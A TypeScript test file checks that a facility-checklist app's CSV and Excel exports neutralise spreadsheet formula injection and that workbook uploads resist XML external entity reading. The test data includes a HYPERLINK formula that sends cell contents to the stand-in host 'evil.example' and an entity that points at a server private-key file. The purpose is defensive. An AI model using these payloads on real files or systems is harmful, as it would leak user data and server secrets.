import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { latestSheet } from '#core/catalogue/catalogue.ts';
import { itemsOf } from '#core/catalogue/sheet.ts';
import { workbookType } from '#core/sheet/contract.ts';
import { loadCatalogue } from '../catalogue/index.ts';
import { request } from './testing/request.ts';
import { begunRun } from './testing/sheet-fixtures.ts';
import { startTestServer, type TestServer } from './testing/test-server.ts';
import { addMember, addSignedIn, addTestFacility, type TestFacility } from './testing/world.ts';

let server: TestServer;
let here: TestFacility;
let run: string;

const begins = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const formula = (begin: string) => `${begin}HYPERLINK("http://evil.example/?x="&A1,"開く")`;

const sheet = latestSheet(loadCatalogue(), 'small-facility');
const items = sheet ? itemsOf(sheet).map(({ id }) => id) : [];

beforeAll(async () => {
  server = await startTestServer();
  here = await addTestFacility(server, { name: formula('=') });
  const people = `/facilities/${here.id}/invitations`;
  run = `/facilities/${here.id}/runs/${await begunRun(server, here)}`;
  for (const [index, begin] of begins.entries()) {
    const name = formula(begin);
    const answer = {
      method: 'PUT',
      path: `${run}/answers/${items[index]}`,
      body: { value: '1', note: name, revision: 0 },
    };
    expect((await request(server, here.people.planner, answer)).status).toBe(200);
    const invitation = { method: 'POST', path: people, body: { name, roles: ['operator'] } };
    expect((await request(server, here.people['facility-administrator'], invitation)).status).toBe(200);
    const person = await addSignedIn(server, name);
    await addMember(server, here.id, person.id, ['auditor']);
    await request(server, person, { method: 'GET', path: `/facilities/${here.id}/members` });
    await request(server, person, { method: 'GET', path: run });
  }
});
afterAll(() => server.stop());

const bytesOf = async (path: string) =>
  (await request(server, here.people['facility-administrator'], { method: 'GET', path })).body as Uint8Array;

describe('a formula in an exported file', () => {
  test.each([
    ['the answers', () => `${run}/answers.csv`],
    ['the activity log', () => `/facilities/${here.id}/activity.csv`],
  ])('runs nowhere in the CSV of %s, in notes and names alike', async (_, path) => {
    const fields: string[][] = parse(new TextDecoder().decode(await bytesOf(path())), { relax_column_count: true });
    const carried = fields.flat().filter((field) => field.includes('HYPERLINK'));
    expect(carried.length).toBeGreaterThanOrEqual(begins.length);
    for (const field of fields.flat()) expect(field).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/);
  });

  test.each([
    ['the answers', () => `${run}/workbook`],
    ['the report', () => `${run}/report.xlsx`],
  ])('is text in the Excel file of %s: no cell has a formula and no link leads out', async (_, path) => {
    const parts = Object.entries(unzipSync(await bytesOf(path()))).map(
      ([name, part]) => [name, strFromU8(part)] as const,
    );
    expect(parts.some(([, text]) => text.includes('HYPERLINK'))).toBe(true);
    for (const [name, text] of parts) {
      expect(text, name).not.toMatch(/<f[ >/]|<hyperlink|TargetMode="External"|ddeLink|externalLink/);
    }
  });
});

test('an entity in a workbook brings no file of the server into an answer', async () => {
  const path = `${run}/workbook`;
  const entity = (file: string) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${file}">]>`;
  const secret = join(import.meta.dirname, 'testing/localhost-key.pem');
  const parts = Object.entries(unzipSync(await bytesOf(path))).map(([name, part]) => {
    const text = strFromU8(part).replace(/^(<\?xml[^>]*>)?/, `$1${entity(`file://${secret}`)}`);
    return [name, strToU8(text.replaceAll(/(<t[^>]*>)([^<]*HYPERLINK[^<]*)/g, '$1&e;'))] as const;
  });
  const content = Uint8Array.from(zipSync(Object.fromEntries(parts)));
  const bytes = { content, type: workbookType };
  const reply = await request(server, here.people.planner, { method: 'POST', path, bytes });
  expect(reply.status).toBeLessThan(500);
  const answers = new TextDecoder().decode(await bytesOf(`${run}/answers.csv`));
  expect(answers + JSON.stringify(reply.body)).not.toMatch(/PRIVATE KEY|root:/);
  expect(server.errors).toEqual([]);
});
